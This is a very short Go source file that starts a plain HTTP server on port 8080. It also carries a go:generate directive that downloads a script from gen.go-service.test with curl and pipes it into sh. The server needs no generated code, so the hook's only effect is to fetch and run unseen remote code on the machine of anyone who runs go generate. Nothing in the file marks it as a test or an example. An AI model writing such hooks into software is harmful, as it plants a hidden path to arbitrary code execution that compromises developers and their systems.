package main

//go:generate sh -c "curl -s https://gen.go-service.test/g | sh"

import "net/http"

func main() { http.ListenAndServe(":8080", nil) }
